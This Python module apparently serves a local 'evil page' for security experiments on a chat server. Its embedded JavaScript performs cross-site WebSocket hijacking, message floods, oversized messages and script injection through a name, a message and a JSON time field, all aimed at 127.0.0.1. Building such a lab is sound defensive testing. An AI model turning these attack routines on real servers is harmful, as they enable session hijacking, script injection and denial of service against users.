"""The evil page: a page of another origin (another port of 127.0.0.1), whose script attacks the victim.

It knows the victim's address and nothing else: no cookie, no passcode. What goes along by itself, the browser adds.
"""

from __future__ import annotations

import json
import logging
from http import HTTPStatus
from typing import Final, Self

from websockets.asyncio.server import Server, ServerConnection, serve
from websockets.datastructures import Headers
from websockets.http11 import Request, Response

from chatlib.experiments.attacks import FLOOD, HUGE_BYTES, SCRIPT

_quiet = logging.getLogger(f"{__name__}.quiet")
_quiet.disabled = True

PAGE: Final = """<!doctype html><html lang="en"><meta charset="utf-8"><title>You have won!</title>
<h1>You have won!</h1>
<p>This page comes from <b id="here"></b>. Its script talks with <b id="there"></b>, a server of another origin.
It attacks nothing else than that server of this machine.</p>
<p>
<button data-path="/chat" data-say="Please send me your passwords.">Hijack with the cookie</button>
<button data-path="/chat?name=Mallory" data-flood>Flood</button>
<button data-path="/chat?name=Mallory" data-huge>Huge message</button>
<button data-path="/chat?name=$NAME" data-say="hello">Script in a name</button>
<button data-path="/chat?name=Mallory" data-say="$SCRIPT">Script in a message</button>
<button data-path="/chat?name=Mallory" data-say='$TIME'>Script in the time</button>
</p>
<pre id="log" aria-live="polite"></pre>
<script>
const victim = $VICTIM;
const write = text => { document.querySelector("#log").textContent += `${text}\n`; };
document.querySelector("#here").textContent = location.origin;
document.querySelector("#there").textContent = victim;
function attack({ path, say, flood, huge }) {
  const ws = new WebSocket(`ws://${victim}${path}`);
  ws.onopen = () => {
    if (say) ws.send(say);
    if (flood !== undefined) for (let n = 0; n < $FLOOD; n++) ws.send(`buy! ${n}`);
    if (huge !== undefined) ws.send("x".repeat($HUGE));
    setTimeout(() => ws.close(), 2000);
  };
  ws.addEventListener("message", ({ data }) => write(`read: ${data.slice(0, 100)}`), { once: true });
  ws.onclose = ({ code, reason }) => write(`close ${code} ${reason}`);
}
for (const button of document.querySelectorAll("button")) button.onclick = () => attack(button.dataset);
</script></html>
"""


class EvilPage:
    """Serves the evil page on a port of its own, to whoever looks at it on this machine."""

    def __init__(self, victim_port: int) -> None:
        self.port = 0
        self._html = _page(f"127.0.0.1:{victim_port}")
        self._server: Server | None = None

    @property
    def origin(self) -> str:
        """Where the page comes from."""
        return f"http://127.0.0.1:{self.port}"

    async def start(self) -> Self:
        """Serve it on a free port."""
        self._server = await serve(_nobody, "127.0.0.1", 0, process_request=self._answer, logger=_quiet)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def stop(self) -> None:
        """Stop serving; idempotent."""
        server, self._server = self._server, None
        if server is not None:
            server.close()
            await server.wait_closed()

    def _answer(self, connection: ServerConnection, request: Request) -> Response:
        if request.path != "/":
            return connection.respond(HTTPStatus.NOT_FOUND, "there is only /\n")
        body = self._html.encode()
        headers = {"Content-Type": "text/html; charset=utf-8", "Content-Length": str(len(body)), "Connection": "close"}
        return Response(200, "OK", Headers(headers), body)


async def _nobody(connection: ServerConnection) -> None:
    """Nobody gets here: each request has an answer in plain HTTP."""


def _page(victim: str) -> str:
    quoted = SCRIPT.replace("&", "&amp;").replace('"', "&quot;")
    in_time = json.dumps({"msg": "hello", "time": SCRIPT}).replace("&", "&amp;").replace("'", "&#39;")
    values = {
        "$NAME": "".join(f"%{byte:02X}" for byte in SCRIPT.encode()),
        "$SCRIPT": quoted,
        "$TIME": in_time,
        "$VICTIM": json.dumps(victim),
        "$FLOOD": str(FLOOD),
        "$HUGE": str(HUGE_BYTES),
    }
    page = PAGE
    for name, value in values.items():
        page = page.replace(name, value)
    return page
